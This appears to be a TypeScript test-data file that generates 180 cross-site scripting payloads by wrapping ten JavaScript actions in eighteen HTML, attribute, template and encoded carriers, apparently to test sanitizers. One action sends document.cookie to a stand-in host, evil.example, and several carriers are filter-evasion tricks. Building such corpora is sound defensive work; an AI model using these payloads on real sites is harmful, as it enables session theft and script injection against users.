/** Things that would do something if a page took text for HTML, for an address, for a style or for a template. */
const deeds = [
  'alert(1)',
  'alert`1`',
  'globalThis.broken=1',
  'top["al"+"ert"](1)',
  '(alert)(1)',
  'eval(atob("YWxlcnQoMSk="))',
  'import("data:text/javascript,alert(1)")',
  'fetch("//evil.example/"+document.cookie)',
  'document.body.innerHTML=1',
  'setTimeout("alert(1)")',
];

const carriers: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `</textarea></title></style><script>${deed}</script>`,
  (deed) => `<ScRiPt/x>${deed}</sCrIpT >`,
  (deed) => `<img src=x onerror='${deed}'>`,
  (deed) => `<svg/onload='${deed}'>`,
  (deed) => `<svg><animate onbegin='${deed}' attributeName=x dur=1s>`,
  (deed) => `<iframe srcdoc="<script>${deed.replaceAll('"', '&quot;')}</script>"></iframe>`,
  (deed) => `<a href='javascript:${deed}'>x</a>`,
  (deed) => `javascript:${deed}//`,
  (deed) => `' autofocus onfocus='${deed}' x='`,
  (deed) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${deed}>">`,
  (deed) => `<details open ontoggle='${deed}'>`,
  (deed) => `{{constructor.constructor('${deed}')()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
  (deed) => `[x](javascript:${deed}) <!--${deed}--> ]]><x xmlns='http://www.w3.org/1999/xhtml' onclick='${deed}'/>`,
];

/** 180 of them: each deed by each carrier. */
export const scriptPayloads: readonly string[] = carriers.flatMap((carry) => deeds.map(carry));
